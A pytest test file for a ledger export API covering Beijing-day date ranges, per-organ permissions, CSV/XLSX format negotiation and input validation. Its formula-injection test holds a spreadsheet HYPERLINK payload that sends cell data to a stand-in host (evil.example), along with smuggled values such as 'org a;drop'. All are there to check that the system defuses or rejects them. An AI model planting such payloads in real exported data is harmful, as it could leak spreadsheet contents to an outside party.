"""Who may export which organ's ledger, which rows a range selects (both ends, Beijing days),
the format chosen by `format` or Accept, formula injection, and the problems bad input gets."""

from __future__ import annotations

from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.conftest import Staff
from tests.fixtures.factories import Clock, company, person, staff_case
from tests.ledger_export.helpers import (
    LEDGER,
    XLSX,
    csv_dicts,
    fetch,
    workbook,
    xlsx_dicts,
)
from tests.letters.helpers import counter_case


def register(client: TestClient, staff: Staff, body: dict[str, Any]) -> dict[str, Any]:
    r = client.post("/api/v1/cases", json=body, headers=staff.headers("front_desk"))
    assert r.status_code == 201, r.text
    return dict(r.json())


def numbers(client: TestClient, headers: dict[str, str], start: str, end: str) -> list[str]:
    r = fetch(client, headers, start, end, "csv")
    assert r.status_code == 200, r.text
    return [row["申请编号"] for row in csv_dicts(r.content)]


def received_on(client: TestClient, staff: Staff, clock: Clock, day: str) -> str:
    clock.set(f"{day}T10:00+08:00")
    return str(counter_case(client, staff, arrived_at=f"{day}T10:00:00+08:00")["number"])


def unconfirmed(client: TestClient, staff: Staff, clock: Clock, arrived_at: str) -> str:
    clock.set("2026-03-06T10:00+08:00")
    body = staff_case(
        "ordinary_mail",
        arrived_at=arrived_at,
        delivery={"form": "paper", "method": "post"},
        e_service_consent=False,
    )
    case = register(client, staff, body)
    assert case["state"] == "awaiting_confirmation"
    return str(case["number"])


# --- the range ------------------------------------------------------------------------------


def test_range_includes_both_ends_by_receipt_date(
    client: TestClient, organ_a: Staff, clock: Clock
) -> None:
    mon, tue, wed, thu = (
        received_on(client, organ_a, clock, d)
        for d in ("2026-03-02", "2026-03-03", "2026-03-04", "2026-03-05")
    )
    h = organ_a.headers("clerk")
    assert numbers(client, h, "2026-03-03", "2026-03-04") == [tue, wed]
    assert numbers(client, h, "2026-03-03", "2026-03-03") == [tue]
    assert numbers(client, h, "2026-03-02", "2026-03-05") == [mon, tue, wed, thu]
    assert numbers(client, h, "2026-03-06", "2026-03-31") == []
    assert numbers(client, h, "2026-02-01", "2026-03-01") == []


def test_unconfirmed_applications_are_filed_under_the_beijing_day_they_arrived(
    client: TestClient, organ_a: Staff, clock: Clock
) -> None:
    # Both arrived on 3 March in UTC (15:59 and 16:00); in Beijing one minute before and at
    # midnight of 4 March.
    late = unconfirmed(client, organ_a, clock, "2026-03-03T23:59:00+08:00")
    midnight = unconfirmed(client, organ_a, clock, "2026-03-04T00:00:00+08:00")
    received = received_on(client, organ_a, clock, "2026-03-06")
    h = organ_a.headers("clerk")
    assert numbers(client, h, "2026-03-03", "2026-03-03") == [late]
    assert numbers(client, h, "2026-03-04", "2026-03-04") == [midnight]
    assert numbers(client, h, "2026-03-01", "2026-03-31") == [late, midnight, received]
    # Once confirmed, the receipt date files it.
    r = client.get("/api/v1/cases", headers=h, params={"state": "awaiting_confirmation"})
    case_id = next(c["id"] for c in r.json()["items"] if c["number"] == late)
    case = client.get(f"/api/v1/cases/{case_id}", headers=h).json()
    r = client.post(
        f"/api/v1/cases/{case['id']}/actions/confirm_receipt",
        headers=organ_a.headers("clerk"),
        json={
            "version": case["version"],
            "receipt_date": "2026-03-05",
            "receipt_basis": "confirmed",
            "receipt_evidence": "电话与申请人确认",
        },
    )
    assert r.status_code == 200, r.text
    assert numbers(client, h, "2026-03-03", "2026-03-03") == []
    assert numbers(client, h, "2026-03-05", "2026-03-05") == [late]


# --- who sees what --------------------------------------------------------------------------


@pytest.fixture
def two_organs(client: TestClient, organ_a: Staff, organ_b: Staff) -> tuple[list[str], list[str]]:
    a = [counter_case(client, organ_a)["number"] for _ in range(2)]
    b = [counter_case(client, organ_b)["number"]]
    return a, b


@pytest.mark.parametrize("role", ["clerk", "approver", "supervisor", "front_desk", "legal+clerk"])
def test_organ_staff_export_their_own_organ_only(
    role: str,
    client: TestClient,
    organ_a: Staff,
    organ_b: Staff,
    two_organs: tuple[list[str], list[str]],
) -> None:
    a, b = two_organs
    h = organ_a.headers(*role.split("+"))
    assert numbers(client, h, "2026-03-01", "2026-03-31") == a
    assert numbers(client, h, "2026-03-01", "2026-03-31") != b
    assert numbers(client, organ_b.headers(*role.split("+")), "2026-03-01", "2026-03-31") == b
    # Naming their own organ is fine, another one is not.
    r = fetch(client, h, "2026-03-01", "2026-03-31", "csv", organ="org-a")
    assert [row["申请编号"] for row in csv_dicts(r.content)] == a
    r = fetch(client, h, "2026-03-01", "2026-03-31", "csv", organ="org-b")
    assert r.status_code == 403, r.text
    assert r.headers["content-type"] == "application/problem+json"


def test_a_legal_office_user_may_not_export(client: TestClient, organ_a: Staff) -> None:
    r = fetch(client, organ_a.headers("legal"), "2026-03-01", "2026-03-31", "csv")
    assert r.status_code == 403, r.text
    assert r.json()["code"] == "forbidden"


def test_no_token_is_401(client: TestClient, organ_a: Staff) -> None:
    r = fetch(client, {}, "2026-03-01", "2026-03-31", "csv")
    assert r.status_code == 401, r.text


def test_an_admin_names_the_organ(
    client: TestClient, admin: dict[str, str], two_organs: tuple[list[str], list[str]]
) -> None:
    a, b = two_organs
    r = fetch(client, admin, "2026-03-01", "2026-03-31", "csv", organ="org-b")
    assert r.status_code == 200, r.text
    assert [row["申请编号"] for row in csv_dicts(r.content)] == b
    assert "org-b_2026-03-01_2026-03-31.csv" in r.headers["content-disposition"]
    r = fetch(client, admin, "2026-03-01", "2026-03-31", "xlsx", organ="org-a")
    assert [row["申请编号"] for row in xlsx_dicts(r.content)] == a
    r = fetch(client, admin, "2026-03-01", "2026-03-31", "csv")
    assert r.status_code == 422, r.text
    assert r.json()["errors"][0]["loc"] == ["organ"]
    r = fetch(client, admin, "2026-03-01", "2026-03-31", "csv", organ="no-such-organ")
    assert r.status_code == 404, r.text
    assert r.json()["code"] == "not-found"


# --- formula injection ----------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_text_that_would_run_as_a_formula_is_defused_in_both_formats(
    client: TestClient, organ_a: Staff
) -> None:
    counter_case(client, organ_a, applicant=company(name=HOSTILE))
    counter_case(client, organ_a, applicant=company(name="+86 示例商行"))
    counter_case(client, organ_a, applicant=company(name="@SUM(1+1)有限公司"))
    counter_case(client, organ_a, applicant=company(name="-1+2 工作室"))
    counter_case(client, organ_a, applicant=person(name="=A1"))
    expected = [
        "'" + HOSTILE,
        "'+86 示例商行",
        "'@SUM(1+1)有限公司",
        "'-1+2 工作室",
        "'=**",  # a person's name, masked, still defused
    ]
    h = organ_a.headers("clerk")
    rows = csv_dicts(fetch(client, h, "2026-03-02", "2026-03-02", "csv").content)
    assert [r["申请人"] for r in rows] == expected
    content = fetch(client, h, "2026-03-02", "2026-03-02", "xlsx").content
    assert [r["申请人"] for r in xlsx_dicts(content)] == expected
    ws = workbook(content)["台账"]
    for row in range(2, 7):
        assert ws.cell(row=row, column=6).data_type == "s"  # a string, never a formula ("f")


# --- format ---------------------------------------------------------------------------------

CSV_TYPE = "text/csv; charset=utf-8"


@pytest.mark.parametrize(
    ("accept", "content_type"),
    [
        (None, XLSX),
        ("*/*", XLSX),
        ("text/csv", CSV_TYPE),
        ("text/*", CSV_TYPE),
        (XLSX, XLSX),
        (f"text/csv;q=0.5, {XLSX}", XLSX),
        (f"text/csv, {XLSX};q=0.5", CSV_TYPE),
        ("application/json, text/csv;q=0.1", CSV_TYPE),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", XLSX),
        (f"{XLSX};q=0, */*", CSV_TYPE),
    ],
)
def test_the_format_follows_accept_when_not_given(
    accept: str | None, content_type: str, client: TestClient, organ_a: Staff
) -> None:
    # No Accept at all: TestClient would send "*/*", so send it blank (the same for us).
    headers = {**organ_a.headers("clerk"), "Accept": accept or ""}
    r = client.get(LEDGER, params={"from": "2026-03-01", "to": "2026-03-31"}, headers=headers)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == content_type


@pytest.mark.parametrize(
    "accept", ["application/json", "application/pdf, image/*", f"{XLSX};q=0, text/csv;q=0"]
)
def test_an_accept_header_admitting_neither_format_is_406(
    accept: str, client: TestClient, organ_a: Staff
) -> None:
    headers = {**organ_a.headers("clerk"), "Accept": accept}
    r = client.get(LEDGER, params={"from": "2026-03-01", "to": "2026-03-31"}, headers=headers)
    assert r.status_code == 406, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert r.json()["code"] == "not-acceptable"
    # An explicit format wins over Accept.
    r = client.get(
        LEDGER,
        params={"from": "2026-03-01", "to": "2026-03-31", "format": "csv"},
        headers=headers,
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == CSV_TYPE


# --- bad input ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2026-03-31", "to": "2026-03-01"}, "from"),
        ({"from": "2026-01-01", "to": "2027-01-02"}, "to"),  # 367 days
        ({"from": "1999-12-31", "to": "2000-01-01"}, "from"),
        ({"from": "2099-12-31", "to": "2100-01-01"}, "to"),
        ({"from": "0001-01-01", "to": "0001-01-01"}, "from"),
        ({"from": "9999-12-31", "to": "9999-12-31"}, "from"),
        ({"from": "2026-02-30", "to": "2026-03-01"}, "from"),
        ({"from": "2026-03-01"}, "to"),
        ({"to": "2026-03-01"}, "from"),
        ({"from": "yesterday", "to": "2026-03-01"}, "from"),
        ({"from": "2026-03-01", "to": "2026-03-01", "format": "pdf"}, "format"),
        ({"from": "2026-03-01", "to": "2026-03-01", "organ": "org a;drop"}, "organ"),
        ({"from": "2026-03-01", "to": "2026-03-01", "organ": "x" * 33}, "organ"),
    ],
)
def test_bad_parameters_are_422_problems(
    params: dict[str, str], field: str, client: TestClient, organ_a: Staff
) -> None:
    r = client.get(LEDGER, params=params, headers=organ_a.headers("clerk"))
    assert r.status_code == 422, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert field in [e["loc"][-1] for e in r.json()["errors"]]


def test_a_leap_year_is_one_export(client: TestClient, organ_a: Staff) -> None:
    r = fetch(client, organ_a.headers("clerk"), "2028-01-01", "2028-12-31", "csv")
    assert r.status_code == 200, r.text


@pytest.mark.parametrize(
    "query",
    [
        "from=2026-03-01&to=2026-03-01&format=CSV",
        "from=2026-03-01&to=2026-03-01&from=2026-03-02",
        "from=%00&to=2026-03-01",
        "from=2026-03-01&to=2026-03-01&organ=%E5%8F%B0",
        "from=+2026-03-01&to=2026-03-01",
        "from=2026-03-01T00:00&to=2026-03-01",
        "from=20260301&to=2026-03-01",
        "from=1e10&to=2026-03-01",
        "from=2026-03-01&to=2026-03-01&format=csv&format=xlsx",
        "from=" + "9" * 5000 + "&to=2026-03-01",
    ],
)
def test_odd_queries_never_give_a_500(query: str, client: TestClient, organ_a: Staff) -> None:
    r = client.get(f"{LEDGER}?{query}", headers=organ_a.headers("clerk"))
    assert r.status_code < 500, r.text
    if r.status_code != 200:
        assert r.headers["content-type"] == "application/problem+json"


def test_more_rows_than_an_xlsx_sheet_holds_is_a_422_pointing_to_csv(
    client: TestClient, organ_a: Staff, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.ledger_export import writers

    numbers_a = [counter_case(client, organ_a)["number"] for _ in range(3)]
    monkeypatch.setattr(writers, "XLSX_MAX_DATA_ROWS", 2)
    h = organ_a.headers("clerk")
    r = fetch(client, h, "2026-03-02", "2026-03-02", "xlsx")
    assert r.status_code == 422, r.text
    assert "csv" in r.json()["detail"]
    assert numbers(client, h, "2026-03-02", "2026-03-02") == numbers_a
